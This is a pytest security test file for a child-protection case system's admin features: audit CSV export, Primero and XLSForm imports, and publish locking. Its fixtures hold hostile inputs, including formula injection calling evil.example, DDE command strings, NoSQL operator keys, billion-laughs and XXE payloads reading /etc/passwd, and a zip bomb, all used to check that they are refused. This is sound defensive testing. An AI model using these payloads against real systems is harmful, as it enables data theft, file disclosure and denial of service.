"""The administrators' workbench (#20) under attack: the publish impact and the readable changes, the audit log's CSV
export, the Primero import, the XLSForm export and import, and the relaxed check on a published field's type.

The world: the minimal configuration, the shipped roles (metadata/roles/*.json, their permissions and scopes, without
their form lists, which name forms the minimal configuration does not have) and roles built for the attack: metadata
only (no role management), translations only, role management only, audit log only, audit log with cases of its
agency, and no permission at all. A child's case holds SECRET, which no metadata answer may carry.

Each plain test is a guarantee that holds; each `xfail(strict=True)` test shows a bug, named in its reason.
Tests about data integrity or security run on mongomock and on SecantusDB (`backend_app`).
"""
from __future__ import annotations

import copy
import csv
import io
import json
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest

from server.auth.audit import log_event
from server.interop.xlsform_export import workbook_bytes
from server.metadata import draft as drafts, usage
from server.metadata.versions import published_configuration
from server.storage import get_db, metadata as metadata_store
from tests.builders import field, make_user, role
from tests.conftest import authenticated, refusal

SECRET = "SECRET-CHILD-NAME"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
IMPACT = "/api/v1/metadata/draft/impact"
CHANGES = "/api/v1/metadata/versions/{a}/changes/{b}"
AUDIT_CSV = "/api/v1/audit_logs/export.csv"
PRIMERO = "/api/v1/metadata/import/primero"
XLSFORM = "/api/v1/metadata/xlsform"
SHIPPED_ROLES = Path(__file__).parents[2] / "metadata" / "roles"
SMALL_PRIMERO = (Path(__file__).parents[1] / "interop" / "fixtures" / "primero" / "cp_small.json").read_bytes()

_HASHES: dict[str, str] = {}


@pytest.fixture(autouse=True)
def hashed_once(monkeypatch):
    """Many users per test: each password is hashed once per session."""
    from server.auth import accounts, passwords

    monkeypatch.setattr(accounts, "hash_password", lambda password: _HASHES.get(password) or _HASHES.setdefault(
        password, passwords.hash_password(password)))


# --- the world ----------------------------------------------------------------------------------------------------


def shipped_roles() -> list[dict]:
    """The shipped roles' permissions and scopes (their form lists name forms the minimal configuration lacks)."""
    roles = []
    for path in sorted(SHIPPED_ROLES.glob("*.json")):
        body = json.loads(path.read_text("utf-8"))
        if body["unique_id"] == "role-system-administrator":
            continue
        roles.append(role(body["unique_id"], body["permissions"], body.get("group_permission", "self"),
                          {} if "form_section_read_write" in body else None))
    return roles


BUILT_ROLES = [
    role("role-metadata-only", {"metadata": ["manage"]}, "self", {}),
    role("role-translations-only", {"metadata": ["manage_translations"]}, "self", {}),
    role("role-roles-only", {"role": ["manage"]}, "self", {}),
    role("role-audit-only", {"audit_log": ["read"]}, "self", {}),
    role("role-audit-agency", {"audit_log": ["read"], "case": ["read"]}, "agency", {"basic_identity": "r"}),
    role("role-nothing", {"audit_log": []}, "self", {}),
]


@pytest.fixture
def world(backend_app, backend_client):
    """Publish the roles, make one user per role, a case with a child's name; everyone's client, and the app."""
    admin = backend_client
    for body in shipped_roles() + BUILT_ROLES:
        response = admin.post("/api/v1/roles", json={"data": body})
        assert response.status_code == 201, response.get_json()
    published = admin.post("/api/v1/metadata/publish", json={})
    assert published.status_code == 201, published.get_json()
    people = {"admin": admin, "app": backend_app}
    for body in shipped_roles() + BUILT_ROLES:
        name = body["unique_id"].removeprefix("role-")
        people[name] = authenticated(backend_app, make_user(backend_app, name, body["unique_id"], "gups-a"))
    case = admin.post("/api/v1/cases", json={"data": {"name": SECRET, "age": 7, "family_members": [
        {"relation_name": SECRET + "-MOTHER", "relation_age": 40}]}})
    assert case.status_code == 201, case.get_json()
    people["case_id"] = case.get_json()["data"]["id"]
    return people


def error_of(response) -> dict:
    """The error of an answer, without its request id (each answer has its own)."""
    return refusal(response)["error"]


def draft_state(app) -> dict:
    """The draft's documents (kind, id -> body) and the published version: what a refusal must leave as it was."""
    with app.app_context():
        db = get_db()
        draft = {(entry["kind"], entry["unique_id"]): entry["body"] for entry in metadata_store.list_draft(db)}
        return {"draft": draft, "version": published_configuration(db).version}


def edit_draft(app, change) -> None:
    """Make the draft the published configuration changed by `change(documents)` (the draft API's result, faster)."""
    with app.app_context():
        db = get_db()
        documents = [(kind, uid, copy.deepcopy(body)) for kind, uid, body in published_configuration(db).documents()]
        change(documents)
        drafts.replace_draft(db, documents, "tester", datetime.now(timezone.utc), force=True)


def form_of(documents, uid: str) -> dict:
    return next(body for kind, key, body in documents if kind == "form" and key == uid)


def field_of(documents, uid: str, name: str) -> dict:
    return next(f for f in form_of(documents, uid)["fields"] if f["name"] == name)


def publish(client):
    return client.post("/api/v1/metadata/publish", json={})


# --- who may call what, and nothing looked up before ----------------------------------------------------------------

ALLOWED = {  # route -> the roles (user names) it answers; every other role gets 403 PERMISSION_DENIED
    "impact": {"admin", "national-administrator", "metadata-only"},
    "changes": {"admin", "national-administrator", "metadata-only"},
    "xlsform_get": {"admin", "national-administrator", "metadata-only"},
    "xlsform_post": {"admin", "national-administrator", "metadata-only"},
    "primero": {"admin", "national-administrator"},
    "audit_csv": {"admin", "national-administrator", "audit-only", "audit-agency"},
}
USERS = ["admin", "agency-manager", "case-worker", "focal-point", "national-administrator", "partner-data-manager",
         "supervisor", "translator", "metadata-only", "translations-only", "roles-only", "audit-only", "audit-agency",
         "nothing"]


def call(client, route: str):
    """Each route with what an attacker would send: a version that does not exist, a body no reader accepts."""
    if route == "impact":
        return client.get(IMPACT + "?locale=fr")
    if route == "changes":
        return client.get(CHANGES.format(a=1, b=999) + "?locale=fr")
    if route == "xlsform_get":
        return client.get(XLSFORM + "?record_type=case")
    if route == "xlsform_post":
        return client.post(XLSFORM + "?record_type=case&locale=fr", data=b"PK\x03\x04 not a workbook",
                           content_type=XLSX)
    if route == "primero":
        return client.post(PRIMERO + "?replace_draft=true&locale=fr", data=b'{"forms": [{"$where": "sleep(1)"}]}',
                           content_type="application/json")
    return client.get(AUDIT_CSV + "?locale=fr")


@pytest.mark.parametrize("route", sorted(ALLOWED))
def test_every_role_is_refused_or_served_as_its_permissions_say_and_nothing_is_looked_up_first(world, route):
    before = draft_state(world["app"])
    for user in USERS:
        response = call(world[user], route)
        if user in ALLOWED[route]:
            assert response.status_code != 403, (user, route)
            assert response.status_code < 500, (user, route, response.data[:300])
        else:
            assert response.status_code == 403, (user, route, response.status_code)
            error = error_of(response)
            # the permission comes first: a missing version is not a 404, a hostile body is not a 422
            assert error["code"] == "PERMISSION_DENIED", (user, route, error)
            assert "1" not in error.get("message", "").split() and "999" not in json.dumps(error)
    assert draft_state(world["app"]) == before


def test_a_refusal_is_in_the_requested_language(world):
    english = error_of(world["translator"].get(IMPACT + "?locale=en"))
    french = error_of(world["translator"].get(IMPACT + "?locale=fr"))
    assert english["code"] == french["code"] == "PERMISSION_DENIED" and english["message"] != french["message"]


# --- the publish impact and the readable changes ------------------------------------------------------------------


def test_the_impact_counts_the_records_losing_a_field_and_carries_no_childs_data(world):
    admin, app = world["admin"], world["app"]

    def drop(documents):
        form_of(documents, "basic_identity")["fields"] = [
            f for f in form_of(documents, "basic_identity")["fields"] if f["name"] not in ("name", "family_members")]
    edit_draft(app, drop)
    answer = admin.get(IMPACT + "?locale=fr")
    assert answer.status_code == 200, answer.get_json()
    impact = answer.get_json()["data"]
    change = next(c for c in impact["changes"] if c["unique_id"] == "basic_identity")
    assert {f["name"]: f["records"] for f in change["fields_removed"]} == {"name": 1, "family_members": 1}
    assert impact["records_losing_a_field"] == 2
    text = answer.get_data(as_text=True)
    assert SECRET not in text and world["case_id"] not in text


def test_the_impact_of_removing_a_whole_form_counts_its_fields_records(world):
    admin, app = world["admin"], world["app"]

    def drop(documents):
        documents[:] = [d for d in documents if not (d[0] == "form" and d[1] == "basic_identity")]
        for _, _, body in documents:
            if body.get("form_section_read_write"):
                body["form_section_read_write"].pop("basic_identity", None)
    edit_draft(app, drop)
    answer = admin.get(IMPACT + "?locale=en")
    assert answer.status_code == 200, answer.get_json()
    impact = answer.get_json()["data"]
    removed = next(c for c in impact["changes"] if c["unique_id"] == "basic_identity")
    assert removed["change"] == "removed"
    held = {f["name"]: f["records"] for f in removed["fields_removed"]}
    assert held["name"] == 1 and held["age"] == 1 and held["date_of_birth"] == 0
    assert SECRET not in answer.get_data(as_text=True)


def test_the_readable_changes_of_versions_that_do_not_exist_are_a_clear_404(world):
    for a, b in [(1, 999), (999, 1), (9223372036854775807, 1)]:
        response = world["admin"].get(CHANGES.format(a=a, b=b) + "?locale=fr")
        assert response.status_code == 404, (a, b, response.get_json())
        assert error_of(response)["code"] == "NOT_FOUND"
    too_big = world["admin"].get(CHANGES.format(a=1, b=2 ** 64) + "?locale=fr")
    assert too_big.status_code == 400 and error_of(too_big)["details"][0]["field"] == "b"


@pytest.mark.parametrize("locale", ["x" * 11, "$gt", "fr\x00", "../../etc"])
def test_a_hostile_locale_is_refused_or_ignored_never_a_500(world, locale):
    for url in (IMPACT, CHANGES.format(a=1, b=2)):
        response = world["admin"].get(url, query_string={"locale": locale})
        assert response.status_code in (200, 400, 422), (url, locale, response.data[:300])


def test_the_readable_changes_carry_no_record_data(world):
    response = world["admin"].get(CHANGES.format(a=0, b=2) + "?locale=fr")
    assert response.status_code == 200, response.get_json()
    assert SECRET not in response.get_data(as_text=True) and world["case_id"] not in response.get_data(as_text=True)


# --- the audit log's CSV export --------------------------------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_no_audit_cell_becomes_a_formula_and_newlines_stay_inside_their_cell(world):
    app = world["app"]
    with app.app_context():
        for text in HOSTILE_CELLS + ["line one\n=1+1\r\nline \"three\"", "a,b;c\td"]:
            log_event(get_db(), action="login_failed", user_name=text, at=datetime.now(timezone.utc), address=text,
                      detail=text, status=401)
    table = csv_rows(world["admin"].get(AUDIT_CSV, query_string={"action": "login_failed"}))
    assert all(len(row) == 9 for row in table)
    cells = [cell for row in table[1:] for cell in (row[1], row[7], row[8])]
    assert len(cells) == 3 * (len(HOSTILE_CELLS) + 2)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "line one\n=1+1\r\nline \"three\"" in cells and "a,b;c\td" in cells


def test_a_reader_without_case_access_sees_no_case_id_in_the_export_even_with_a_record_id_filter(world):
    case_id = world["case_id"]
    readers = ("audit-only", "audit-agency", "national-administrator")
    for reader in readers:
        table = csv_rows(world[reader].get(AUDIT_CSV))
        assert case_id not in json.dumps(table) and SECRET not in json.dumps(table), reader
        assert {row[3] for row in table[1:] if row[4] == "Case"} and all(
            row[5] == "" for row in table[1:] if row[4] == "Case"), reader
    for reader in readers:  # (the export's own entry repeats the filter: see the xfail test below)
        table = csv_rows(world[reader].get(AUDIT_CSV, query_string={"record_id": case_id}))
        assert len(table) == 1, (reader, table)  # the filter never matches a hidden entry
    table = csv_rows(world["admin"].get(AUDIT_CSV, query_string={"record_id": case_id}))
    assert {row[5] for row in table[1:]} == {case_id}


def test_an_export_filtered_by_a_case_id_does_not_leak_that_id_to_readers_who_may_not_see_cases(world):
    case_id = world["case_id"]
    csv_rows(world["admin"].get(AUDIT_CSV, query_string={"record_id": case_id}))
    for reader in ("audit-only", "national-administrator"):
        listed = world[reader].get("/api/v1/audit_logs", query_string={"action": "audit_export"})
        assert case_id not in listed.get_data(as_text=True), reader
        assert case_id not in world[reader].get(AUDIT_CSV).get_data(as_text=True), reader


@pytest.mark.parametrize("query", [{"record_id": "$ne"}, {"user_name": "$gt"},
                                   {"user_name": "a.b"}, {"from": "not a date"}, {"user_name": "x" * 101},
                                   {"record_id": "\x00"}, {"to": "9999-99-99"}])
def test_hostile_audit_filters_select_nothing_or_are_refused_never_a_500(world, query):
    response = world["audit-only"].get(AUDIT_CSV, query_string=query)
    assert response.status_code in (200, 400, 422), (query, response.data[:300])
    if response.status_code == 200:
        assert len(csv_rows(response)) == 1, query
    else:
        assert error_of(response)["details"], query


def test_an_operator_in_a_filter_name_is_no_filter_at_all(world):
    everything = csv_rows(world["audit-only"].get(AUDIT_CSV))
    operator = csv_rows(world["audit-only"].get(AUDIT_CSV, query_string={"user_name[$ne]": "x"}))
    assert [row[3] for row in operator[1:]] == ["audit_export"] + [row[3] for row in everything[1:]]


def test_exporting_the_audit_log_is_itself_audited(world):
    csv_rows(world["audit-only"].get(AUDIT_CSV, query_string={"action": "login"}))
    entries = world["admin"].get("/api/v1/audit_logs", query_string={"action": "audit_export"}).get_json()["data"]
    assert [(e["user_name"], e["detail"].split("; ")[1]) for e in entries] == [("audit-only", "action=login")]


# --- the Primero import ----------------------------------------------------------------------------------------------

HOSTILE_FILES = {
    "operator key": b'{"forms": [{"unique_id": "f", "$where": "1"}]}',
    "dotted key": b'{"forms": [{"unique_id": "f", "fields_attributes": [{"a.b": 1}]}]}',
    "NaN": b'{"forms": [{"unique_id": "f", "order": NaN}]}',
    "Infinity": b'{"forms": [{"unique_id": "f", "order": -Infinity}]}',
    "huge integer": b'{"forms": [{"unique_id": "f", "order": 99999999999999999999999}]}',
    "lone surrogate": b'{"forms": [{"unique_id": "f", "name_en": "\\ud800"}]}',
    "NUL": b'{"forms": [{"unique_id": "f\\u0000"}]}',
    "not UTF-8": b'{"forms": [{"unique_id": "\xff\xfe"}]}',
    "deep nesting": b'{"forms": ' + b"[" * 50 + b"]" * 50 + b"}",
    "deeper than the parser": b"[" * 200_000 + b"]" * 200_000,
    "not an object": b'[{"forms": []}]',
    "no list": b'{"forms": {"unique_id": "f"}}',
    "nothing": b"",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_a_hostile_primero_file_is_refused_in_french_and_the_draft_is_left_as_it_was(world, name):
    before = draft_state(world["app"])
    response = world["admin"].post(PRIMERO + "?replace_draft=true&locale=fr", data=HOSTILE_FILES[name],
                                   content_type="application/json")
    assert response.status_code == 422, (name, response.status_code, response.data[:300])
    error = error_of(response)
    assert error["code"] == "DOCUMENT_INVALID" and error["message"].startswith("Le fichier"), error
    assert draft_state(world["app"]) == before


def test_a_gzip_body_or_a_file_part_missing_is_a_clear_refusal(world):
    import gzip

    before = draft_state(world["app"])
    zipped = world["admin"].post(PRIMERO + "?replace_draft=true", data=gzip.compress(SMALL_PRIMERO),
                                 content_type="application/json", headers={"Content-Encoding": "gzip"})
    assert zipped.status_code == 422 and error_of(zipped)["code"] == "DOCUMENT_INVALID"
    missing = world["admin"].post(PRIMERO + "?replace_draft=true", data={"other": "x"},
                                  content_type="multipart/form-data")
    assert missing.status_code == 422
    assert draft_state(world["app"]) == before


def test_a_number_too_large_for_a_float_is_refused_like_infinity(world):
    before = draft_state(world["app"])
    body = (b'{"forms": [{"unique_id": "f1", "parent_form": "case", "name_en": "F", "fields_attributes": ['
            b'{"name": "x", "type": "numeric_field", "display_name_en": "X", "selected_value": 1e400}]}]}')
    response = world["admin"].post(PRIMERO + "?replace_draft=true&locale=fr", data=body,
                                   content_type="application/json")
    assert response.status_code == 422 and error_of(response)["code"] == "DOCUMENT_INVALID"
    assert draft_state(world["app"]) == before


def test_a_primero_configuration_of_a_few_megabytes_is_read(world):
    config = json.loads(SMALL_PRIMERO)
    config["locations"] = [{"location_code": f"BJ{i}", "admin_level": 0, "type": "country",
                            "name_en": "Place " * 30} for i in range(10_000)]
    body = json.dumps(config).encode()
    assert 2 * 1024 * 1024 < len(body) < 16 * 1024 * 1024
    response = world["admin"].post(PRIMERO + "?dry_run=true", data=body, content_type="application/json")
    assert response.status_code == 200, response.get_json()


def test_a_refused_primero_file_names_the_field_and_rule_in_its_details(world):
    response = world["admin"].post(PRIMERO + "?locale=fr", data=HOSTILE_FILES["operator key"],
                                   content_type="application/json")
    assert response.status_code == 422
    assert error_of(response)["details"] and error_of(response)["details"][0]["field"]


def test_an_import_by_a_metadata_manager_who_may_not_manage_roles_is_refused_before_reading(world):
    before = draft_state(world["app"])
    response = world["metadata-only"].post(PRIMERO + "?replace_draft=true", data=SMALL_PRIMERO,
                                           content_type="application/json")
    assert response.status_code == 403 and error_of(response)["code"] == "PERMISSION_DENIED"
    assert draft_state(world["app"]) == before


def test_an_import_keeps_the_administrators_and_the_national_administrator_cannot_escalate(world):
    """The national administrator may assign the field roles only: an import that gives one of them every permission
    is refused whole."""
    config = json.loads(SMALL_PRIMERO)
    config["roles"] = [{"unique_id": "role-case-worker", "name_en": "Worker", "group_permission": "all",
                        "permissions": [{"resource": r, "actions": ["manage"]} for r in
                                        ("user", "role", "metadata", "audit_log", "case")]}]
    before = draft_state(world["app"])
    response = world["national-administrator"].post(PRIMERO + "?replace_draft=true&locale=fr",
                                                     data=json.dumps(config), content_type="application/json")
    assert response.status_code in (403, 409, 422), response.get_json()
    assert draft_state(world["app"]) == before


# --- concurrency: imports and publishes at once ----------------------------------------------------------------------


def other_primero() -> bytes:
    """The small configuration with other form ids."""
    config = json.loads(SMALL_PRIMERO)
    for item in config["forms"]:
        item["unique_id"] = "other_" + item["unique_id"]
    return json.dumps(config).encode()


def relabelled_primero() -> bytes:
    """The small configuration with every document's label changed (the same ids)."""
    config = json.loads(SMALL_PRIMERO)
    for items in config.values():
        for item in items:
            for key in [key for key in item if key.startswith("name_") and isinstance(item[key], str)]:
                item[key] += " (2)"
    return json.dumps(config).encode()


def interleave(monkeypatch, between, after: int = 0):
    """Run `between()` once, inside the next draft replacement, after it deleted what it drops and before it writes
    what it brings, or after `after` of them (-1: before its last), the window two requests at once may hit.

    The replacement computes the key of each document once before its delete and once per write: the hook counts."""
    from server.storage import metadata as store

    original_key, original_reset = store.draft_key, store.reset_draft
    state = {"calls": 0, "at": None, "done": False}

    def reset(db, documents, user, now):
        documents = list(documents)
        if state["at"] is None:
            count = len(documents)
            state["at"] = count + 1 + after if after >= 0 else 2 * count + 1 + after
        return original_reset(db, documents, user, now)

    def key(kind, uid):
        state["calls"] += 1
        if not state["done"] and state["calls"] == state["at"]:
            state["done"] = True
            between()
        return original_key(kind, uid)

    monkeypatch.setattr(store, "reset_draft", reset)
    monkeypatch.setattr(store, "draft_key", key)
    return state


def busy(response) -> None:
    """The refusal of a configuration change while another is under way: 409, its code, the lease in the message."""
    assert response.status_code == 409, response.get_json()
    error = error_of(response)
    assert error["code"] == "CONFIGURATION_BUSY" and "60 seconds" in error["message"], error


def test_two_imports_at_once_leave_the_draft_of_one_of_them(world, monkeypatch):
    """An import that arrives while another replaces the draft is refused, never mixed into it; it goes through once
    the first is done."""
    admin, app = world["admin"], world["app"]
    second = {}
    state = interleave(monkeypatch, lambda: second.setdefault("answer", admin.post(
        PRIMERO + "?replace_draft=true", data=other_primero(), content_type="application/json")))
    first = admin.post(PRIMERO + "?replace_draft=true", data=SMALL_PRIMERO, content_type="application/json")
    assert state["done"] and first.status_code == 200, first.get_json()
    busy(second["answer"])
    forms = {uid for kind, uid in draft_state(app)["draft"] if kind == "form"}
    assert "basic_identity" in forms and not any(uid.startswith("other_") for uid in forms), forms
    again = admin.post(PRIMERO + "?replace_draft=true", data=other_primero(), content_type="application/json")
    assert again.status_code == 200, again.get_json()
    forms = {uid for kind, uid in draft_state(app)["draft"] if kind == "form"}
    assert "other_basic_identity" in forms and "basic_identity" not in forms, forms


def test_a_publish_during_an_import_publishes_the_old_draft_or_the_new_one_never_half(world, monkeypatch):
    admin, app = world["admin"], world["app"]
    assert admin.post(PRIMERO + "?replace_draft=true", data=SMALL_PRIMERO,
                      content_type="application/json").status_code == 200
    assert publish(admin).status_code == 201
    old, version = draft_state(app)["draft"], draft_state(app)["version"]
    answers = {}
    interleave(monkeypatch, lambda: answers.setdefault("publish", publish(admin)), after=1)
    imported = admin.post(PRIMERO + "?replace_draft=true", data=relabelled_primero(), content_type="application/json")
    assert imported.status_code == 200, imported.get_json()
    new = draft_state(app)["draft"]
    assert new != old
    busy(answers["publish"])  # refused while the import ran: nothing was published
    assert draft_state(app)["version"] == version
    assert publish(admin).status_code == 201  # and the whole import publishes afterwards
    with app.app_context():
        published = {(kind, uid): body for kind, uid, body in published_configuration(get_db()).documents()}
    assert published == new


def test_a_publish_between_the_two_writes_of_a_field_move_is_refused_and_the_move_publishes_whole(world, monkeypatch):
    admin, app = world["admin"], world["app"]
    edit_draft(app, lambda documents: documents.append(("form", "second_identity", {
        **copy.deepcopy(form_of(documents, "basic_identity")), "unique_id": "second_identity", "order": 99,
        "fields": [field("nickname", "text_field")]})))
    assert publish(admin).status_code == 201
    original, answers = metadata_store.replace_draft, {}

    def write_then_publish(db, kind, unique_id, body, revision, user, now):
        stored = original(db, kind, unique_id, body, revision, user, now)
        if unique_id == "basic_identity" and "publish" not in answers:  # the field left its form, not yet in the other
            answers["publish"] = publish(admin)
        return stored
    monkeypatch.setattr(metadata_store, "replace_draft", write_then_publish)
    with app.app_context():
        revision = metadata_store.get_draft(get_db(), "form", "basic_identity")["revision"]
    moved = admin.post("/api/v1/forms/basic_identity/fields/age/move", json={"data": {"form": "second_identity"}},
                       headers={"If-Match": f'"{revision}"'})
    assert moved.status_code == 200, moved.get_json()
    busy(answers["publish"])
    monkeypatch.setattr(metadata_store, "replace_draft", original)
    assert publish(admin).status_code == 201
    with app.app_context():
        config = published_configuration(get_db())
    homes = [uid for uid, form in config.forms_of("case", nested=False) if any(f["name"] == "age" for f in form["fields"])]
    assert homes == ["second_identity"], homes


def test_a_change_held_by_a_process_that_died_blocks_for_its_lease_only(world):
    """A lock left by a killed process of another machine refuses changes (in the caller's language) until its lease
    runs out."""
    admin, app = world["admin"], world["app"]
    edit_draft(app, lambda documents: field_of(documents, "basic_identity", "name").update(
        display_name_i18n={"en": "Full name", "fr": "Nom complet"}))
    now = datetime.now(timezone.utc)
    with app.app_context():
        assert metadata_store.claim_change(get_db(), "another-machine:4242:0f1e", now, now + timedelta(seconds=60))
    before = draft_state(app)
    busy(publish(admin))
    french = admin.post("/api/v1/metadata/publish?locale=fr", json={})
    assert french.status_code == 409 and "60 secondes" in error_of(french)["message"], error_of(french)
    busy(admin.post(PRIMERO + "?replace_draft=true", data=SMALL_PRIMERO, content_type="application/json"))
    busy(admin.post("/api/v1/metadata/versions/1/restore", json={"data": {"discard_draft": True}}))
    assert draft_state(app) == before
    with app.app_context():  # the lease ran out
        get_db().metadata_lock.update_one({"_id": "change"}, {"$set": {"until": now - timedelta(seconds=1)}})
    assert publish(admin).status_code == 201
    with app.app_context():
        assert get_db().metadata_lock.count_documents({}) == 0  # the publish took the lock, and gave it back
        config = published_configuration(get_db())
    assert field_of(list(config.documents()), "basic_identity", "name")["display_name_i18n"]["fr"] == "Nom complet"


# --- the XLSForm export and import -----------------------------------------------------------------------------------


def xlsx_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return " ".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())


def test_the_xlsform_export_holds_metadata_only_and_no_label_becomes_a_formula(world):
    admin, app = world["admin"], world["app"]

    def hostile_label(documents):
        field_of(documents, "basic_identity", "name")["display_name_i18n"] = {
            "en": "=HYPERLINK(\"http://evil.example\",\"x\")", "fr": "=cmd|' /C calc'!A0"}
    edit_draft(app, hostile_label)
    assert publish(admin).status_code == 201
    response = admin.get(XLSFORM + "?record_type=case")
    assert response.status_code == 200 and response.mimetype == XLSX
    assert SECRET not in xlsx_text(response.data) and world["case_id"] not in xlsx_text(response.data)
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [cell for row in book["survey"].iter_rows() for cell in row if isinstance(cell.value, str)
             and cell.value.startswith("=")]
    assert cells and all(cell.data_type == "s" for cell in cells)


def partner_survey() -> list[dict]:
    return [{"type": "begin_group", "name": "partenaire", "label::French (fr)": "Partenaire"},
            {"type": "text", "name": "nom", "label::French (fr)": "Nom"},
            {"type": "end_group"}]


def workbook_with_formula(formula: str) -> bytes:
    book = openpyxl.Workbook()
    survey = book.active
    survey.title = "survey"
    survey.append(["type", "name", "label::French (fr)"])
    survey.append(["text", "nom", formula])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """The workbook with one part replaced (or added)."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != name:
                target.writestr(item, source.read(item.filename))
        target.writestr(name, content)
    return out.getvalue()


def hostile_workbooks() -> dict[str, tuple[bytes, int]]:
    plain = workbook_bytes({"survey": partner_survey()})
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        strings = next(n for n in archive.namelist() if n.endswith("sharedStrings.xml"))
        shared = archive.read(strings).decode("utf-8")
    head, _, rest = shared.partition("?>")
    laughs = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
              '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
    xxe = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        with zipfile.ZipFile(io.BytesIO(plain)) as archive:
            for item in archive.infolist():
                target.writestr(item, archive.read(item.filename))
        target.writestr("xl/media/zeros.bin", b"\0" * (40 * 1024 * 1024))
    return {
        "billion laughs": (with_part(plain, strings, (head + "?>" + laughs + rest.replace(
            "partenaire", "&lol3;", 1)).encode()), 422),
        "external entity": (with_part(plain, strings, (head + "?>" + xxe + rest.replace(
            "partenaire", "&xxe;", 1)).encode()), 422),
        "zip bomb": (bomb.getvalue(), 413),
        "HYPERLINK formula": (workbook_with_formula('=HYPERLINK("http://evil.example","Nom")'), 422),
        "DDE formula": (workbook_with_formula("=cmd|' /C calc'!A0"), 422),
    }


@pytest.mark.parametrize("name", ["billion laughs", "external entity", "zip bomb", "HYPERLINK formula",
                                  "DDE formula"])
def test_a_hostile_workbook_is_refused_in_french_and_the_draft_is_left_as_it_was(world, name):
    data, status = hostile_workbooks()[name]
    before = draft_state(world["app"])
    response = world["admin"].post(XLSFORM + "?record_type=case&locale=fr", data={
        "file": (io.BytesIO(data), "partenaire.xlsx")}, content_type="multipart/form-data")
    assert response.status_code == status, (name, response.status_code, response.data[:400])
    error = error_of(response)
    assert error["code"] in ("XLSFORM_INVALID", "XLSFORM_TOO_LARGE", "PAYLOAD_TOO_LARGE"), error
    assert error["details"] and all(d["field"] and d["message"] for d in error["details"]), error
    assert "passwd" not in response.get_data(as_text=True) and "root:" not in response.get_data(as_text=True)
    assert draft_state(world["app"]) == before


def test_a_constraint_with_a_huge_number_is_reported_not_mapped_and_nothing_breaks(world):
    """A bound no document may hold (past 64 bits) is not mapped, and said so; the rest of the form comes in."""
    survey = [{"type": "begin_group", "name": "partenaire", "label": "Partenaire"},
              {"type": "select_one niveau", "name": "niveau_a", "label": "A"},
              {"type": "select_one niveau", "name": "niveau_b", "label": "B"},
              {"type": "integer", "name": "n", "label": "N", "constraint": ". <= 99999999999999999999999"},
              {"type": "end_group"}]
    choices = [{"list_name": "niveau", "name": "bas", "label": "Bas"}, {"list_name": "niveau", "name": "haut",
                                                                          "label": "Haut"}]
    response = world["admin"].post(XLSFORM + "?record_type=case&locale=fr", content_type=XLSX,
                                   data=workbook_bytes({"survey": survey, "choices": choices}))
    assert response.status_code == 200, response.get_json()
    assert "99999999999999999999999" in json.dumps(response.get_json()["data"]["report"], ensure_ascii=False)
    form = world["admin"].get("/api/v1/forms/partenaire?draft=true").get_json()["data"]
    number = next(field for field in form["fields"] if field["name"] == "n")
    assert "max_value" not in number


def test_an_xlsform_export_of_an_unknown_record_type_is_refused_with_its_parameter(world):
    for record_type in ("$gt", "case.data", "user", "x" * 1000):
        response = world["admin"].get(XLSFORM, query_string={"record_type": record_type, "locale": "fr"})
        assert response.status_code in (400, 422), (record_type, response.status_code)
        assert error_of(response)["details"][0]["field"] == "record_type"


def test_an_import_over_pending_draft_changes_is_refused_and_changes_nothing(world):
    edit_draft(world["app"], lambda documents: field_of(documents, "basic_identity", "age").update(max_value=30))
    before = draft_state(world["app"])
    response = world["admin"].post(PRIMERO + "?locale=fr", data=SMALL_PRIMERO, content_type="application/json")
    assert response.status_code == 409 and error_of(response)["code"] == "DRAFT_NOT_EMPTY"
    assert draft_state(world["app"]) == before


def test_an_escaped_nul_in_a_workbook_stays_text_and_never_reaches_the_draft_as_nul(world):
    data = workbook_bytes({"survey": [{"type": "text", "name": "nom", "label": "a\x00b"}]})  # written as _x0000_
    response = world["admin"].post(XLSFORM + "?record_type=case", data=data, content_type=XLSX)
    assert response.status_code in (200, 422), response.get_json()
    bodies = json.dumps(list(draft_state(world["app"])["draft"].values()))
    assert "\\u0000" not in bodies


def test_an_xlsform_upload_cannot_replace_a_published_form_or_field(world):
    survey = [{"type": "begin_group", "name": "basic_identity", "label::English (en)": "Hijack"},
              {"type": "date", "name": "name", "label::English (en)": "Name"},
              {"type": "end_group"}]
    response = world["admin"].post(XLSFORM + "?record_type=case", data=workbook_bytes({"survey": survey}),
                                   content_type=XLSX)
    assert response.status_code == 200, response.get_json()
    with world["app"].app_context():
        draft = drafts.draft_configuration(get_db())
    assert field_of([("form", "basic_identity", draft.forms["basic_identity"])], "basic_identity",
                    "name")["type"] == "text_field"
    added = [d["unique_id"] for d in response.get_json()["data"]["documents"]]
    assert "basic_identity" not in added
    assert publish(world["admin"]).status_code == 201


def test_a_publish_during_an_xlsform_import_is_refused_and_the_import_publishes_whole(world, monkeypatch):
